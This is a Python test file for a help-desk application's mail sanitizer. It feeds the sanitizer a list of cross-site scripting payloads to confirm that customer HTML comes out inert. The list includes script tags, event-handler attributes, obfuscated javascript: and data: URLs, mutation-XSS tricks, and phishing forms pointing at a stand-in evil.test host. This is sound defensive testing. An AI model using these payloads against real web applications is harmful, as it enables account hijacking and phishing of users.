"""Hostile HTML in customer mail comes out inert (stored XSS is how help desks get attacked)."""

import uuid
from html.parser import HTMLParser

import nh3
import pytest

from echo.inbound import sanitize
from echo.inbound.sanitize import ALLOWED_ATTRIBUTES, ALLOWED_TAGS, html_to_text, sanitize_html, stripped_reply
from echo.tickets.models import Thread
from tests.mailbuilder import inbound_payload, post_inbound

XSS_VECTORS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)><circle r=1></svg>",
    "<a href=\"javascript:alert(1)\">click</a>",
    "<a href=\"jav&#x09;ascript:alert(1)\">tab</a>",
    "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)\">entities</a>",
    "<a href=\" JaVaScRiPt:alert(1)\">case</a>",
    "<a href=\"vbscript:msgbox(1)\">vb</a>",
    "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">data</a>",
    "<img src=\"data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+\">",
    "<iframe src=\"https://evil.test\"></iframe>",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<form action=\"https://evil.test/phish\"><input name=password><button>Log in</button></form>",
    "<meta http-equiv=\"refresh\" content=\"0;url=https://evil.test\">",
    "<base href=\"https://evil.test/\">",
    "<link rel=stylesheet href=\"https://evil.test/x.css\">",
    "<style>body{background:url(https://evil.test/track)}</style>",
    "<div style=\"position:fixed;top:0;left:0;width:100%;height:100%\">overlay</div>",
    "<object data=\"https://evil.test/x.swf\"></object><embed src=\"https://evil.test/x.swf\">",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<details open ontoggle=alert(1)>x</details>",
    "<input autofocus onfocus=alert(1)>",
    "<body onload=alert(1)>",
    "<a href=\"https://ok.test\" onclick=\"alert(1)\" target=\"_top\" id=\"x\" class=\"y\">ok</a>",
    "<img src=\"https://ok.test/a.png\" onload=\"alert(1)\" srcset=\"javascript:alert(1)\">",
    "<table background=\"javascript:alert(1)\"><tr><td>cell</td></tr></table>",
    "<!--<img src=x onerror=alert(1)>-->",
    "<template><img src=x onerror=alert(1)></template>",
    "<textarea><img src=x onerror=alert(1)></textarea>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<scr<script>ipt>alert(1)</script>",
]
SAFE_URL_PREFIXES = ("http://", "https://", "mailto:", "/tickets/attachments/")


class _Collector(HTMLParser):
    def __init__(self):
        super().__init__()
        self.elements = []

    def handle_starttag(self, tag, attrs):
        self.elements.append((tag, attrs, self.get_starttag_text()))


def assert_inert(html: str) -> None:
    collector = _Collector()
    collector.feed(html)
    for tag, attrs, raw_tag in collector.elements:
        assert tag in ALLOWED_TAGS, (tag, html)
        for needle in ("javascript:", "vbscript:", "data:", "onerror", "onload", "style="):
            assert needle not in raw_tag.lower(), (needle, raw_tag)
        for name, value in attrs:
            assert name in ALLOWED_ATTRIBUTES.get(tag, set()) or name == "rel", (tag, name, html)
            if name in ("href", "src"):
                assert (value or "").startswith(SAFE_URL_PREFIXES), (name, value, html)
    assert "<script" not in html.lower()


@pytest.mark.parametrize("vector", XSS_VECTORS)
def test_vector_is_neutralised(vector):
    assert_inert(sanitize_html(f"<p>Hello</p>{vector}<p>Bye</p>"))


def test_every_vector_is_neutralised_through_the_webhook(client, db):
    html = "".join(XSS_VECTORS)
    result = post_inbound(client, inbound_payload(html=html, text="")).get_json()
    thread = db.session.get(Thread, uuid.UUID(result["thread_id"]))
    assert_inert(thread.body_html)
    assert "<script" not in thread.body_text.lower()


def test_ordinary_formatting_survives():
    html = ('<div dir="ltr"><p>Hi <b>there</b>, see <a href="https://raxx.app/help">help</a>.</p>'
            '<blockquote type="cite">old</blockquote><ul><li>one</li></ul>'
            '<table><tr><td colspan="2">x</td></tr></table></div>')
    clean = sanitize_html(html)
    for kept in ("<b>there</b>", 'href="https://raxx.app/help"', "<blockquote", "<li>one</li>", 'colspan="2"'):
        assert kept in clean
    assert 'rel="noopener noreferrer nofollow"' in clean


def test_cid_images_point_at_echo_attachment_urls_and_unknown_cids_are_dropped():
    clean = sanitize_html('<img src="cid:Logo@01D9"><img src="cid:missing@x"><a href="cid:logo@01d9">x</a>',
                          {"logo@01d9": "/tickets/attachments/123"})
    assert '<img src="/tickets/attachments/123">' in clean
    assert "cid:" not in clean


LINKS = [
    '<a href="/tickets/TKT-0001/status">relative</a>', '<img src="/tickets/attachments/x">',
    '<a href="//evil.test/x">protocol-relative</a>', '<a href="?q=1">query</a>', '<img src="x.png">',
    '<a href="mailto:me@ok.test">mail</a>', '<a href="https://ok.test/a" title="cited">ok</a>',
    '<blockquote type="cite"><a href="/x">quoted</a></blockquote>',
    '<blockquote cite="javascript:alert(1)">q</blockquote>',
    '<blockquote CITE = "/relative">q</blockquote>',
]


@pytest.mark.parametrize("html", LINKS + XSS_VECTORS)
def test_mail_without_inline_images_is_cleaned_exactly_as_the_filtering_path_would(html):
    # Such mail takes a prebuilt cleaner that denies relative URLs itself; the result must be the
    # same as the general path's, whose Python filter drops them.
    general = nh3.clean(html, **sanitize._OPTIONS, attribute_filter=sanitize._url_filter({}))
    assert sanitize_html(html) == general
    assert 'href="/' not in general and 'src="/' not in general and "//evil" not in general
    assert_inert(general)


def test_html_only_mail_gets_a_text_rendering():
    assert html_to_text("<div>Hello<br>World</div><p>a &amp; b</p><script>x()</script>") == "Hello\nWorld\na & b"


def test_stripped_reply_prefers_postmark_then_strips_quotes():
    assert stripped_reply("full text", "Postmark's stripped") == "Postmark's stripped"
    quoted = ("Thanks, it works now.\n\n"
              "On Mon, Nov 2, 2026 at 10:00 AM Raxx Support <support@raxx.app> wrote:\n> Try again\n")
    assert stripped_reply(quoted, "") == "Thanks, it works now."
    assert stripped_reply("No quote here.", None) == "No quote here."


def test_new_conversation_keeps_forwarded_text_but_replies_lose_their_quotes(client, db):
    forwarded = ("Please look at this.\n\n---------- Forwarded message ---------\nFrom: Bank <noreply@bank.test>\n"
                 "Your transfer failed.\n\nOn Mon, 3 Mar 2025 at 09:02, Bank wrote:\n> details\n")
    first = post_inbound(client, inbound_payload(text=forwarded, message_id="<fwd@mail.example.com>")).get_json()
    assert "Your transfer failed" in db.session.get(Thread, uuid.UUID(first["thread_id"])).stripped_text
    reply = post_inbound(client, inbound_payload(
        in_reply_to="<fwd@mail.example.com>",
        text="It worked, thanks.\n\nOn Mon, 3 Mar 2025 at 09:02, Raxx Support <support@raxx.app> wrote:\n> Try again\n",
    )).get_json()
    assert db.session.get(Thread, uuid.UUID(reply["thread_id"])).stripped_text == "It worked, thanks."
